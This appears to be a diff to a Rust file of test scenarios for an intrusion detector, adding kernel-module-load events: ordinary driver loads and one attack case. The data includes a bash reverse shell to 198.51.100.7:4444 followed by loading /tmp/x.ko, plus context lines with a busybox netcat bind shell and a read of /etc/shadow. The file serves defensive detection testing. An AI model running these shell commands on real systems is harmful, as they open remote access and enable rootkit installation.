@@ -2,7 +2,7 @@
 //!
 //! `service LABEL USER EXE ARGS`: below init, listens. `plain` listens not, `session LABEL USER` is a login over SSH.
 //! `run LABEL PARENT EXE ARGS`: a program is executed. `suid`: with root's rights. `call`, `listen LABEL ADDRESS`;
-//! `read LABEL PATH`; `write LABEL KIND PATH`; `trace LABEL OTHER`; `pause SECONDS`.
+//! `read LABEL PATH`; `write LABEL KIND PATH`; `trace LABEL OTHER`; `load LABEL MODULE`; `pause SECONDS`.
 
 pub(crate) const KINDS: &str = r#"
 # DetectorSet under apache edits a user's crontab
@@ -327,6 +327,25 @@ run app login /home/anna/app
 run gdb login /usr/bin/gdb -p 1
 trace gdb app
 
+# VPN server loads its driver
+service vpn root /usr/sbin/openvpn --config server.conf
+run mod vpn /usr/bin/kmod tun
+load mod tun
+
+# kubelet loads what containers need
+service kubelet root /usr/bin/kubelet
+run mod kubelet /usr/bin/kmod br_netfilter
+load mod br_netfilter
+
+# A person tries a driver built at home
+session login root
+run mod login /usr/bin/kmod /home/anna/driver/driver.ko
+load mod driver
+
+# udev loads a driver
+plain udevd root /usr/lib/systemd/systemd-udevd
+load udevd dummy
+
 # strace by root on a service
 session login root
 service nginx www-data /usr/sbin/nginx
@@ -509,4 +528,12 @@ read cat /etc/shadow
 run four apache /bin/sh -c "busybox nc -lk -p 4444 -e sh"
 run door four /usr/bin/busybox nc -lk -p 4444 -e sh
 listen door 0.0.0.0:4444
+
+# A stolen root shell that loads a module
+service nginx root /usr/sbin/nginx
+run sh nginx /bin/bash -c "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"
+call sh 198.51.100.7:4444
+sockets inner sh /bin/bash -i
+run mod inner /usr/bin/kmod /tmp/x.ko
+load mod x
 "#;
